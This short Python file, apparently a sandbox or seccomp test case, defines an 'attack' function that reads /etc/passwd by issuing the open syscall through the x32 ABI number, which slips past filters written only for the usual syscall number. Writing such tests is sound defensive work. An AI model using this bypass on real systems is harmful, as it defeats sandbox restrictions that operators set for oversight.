"""Opens a file by the number that x32 programs use, beside any rule about the usual one."""

import ctypes
import os
import platform


def attack():
    if platform.machine() != "x86_64":
        return False
    X32, OPEN = 0x40000000, 2
    file = ctypes.CDLL(None).syscall(X32 | OPEN, b"/etc/passwd", os.O_RDONLY)
    return file >= 0 and b"root:" in os.read(file, 4096)
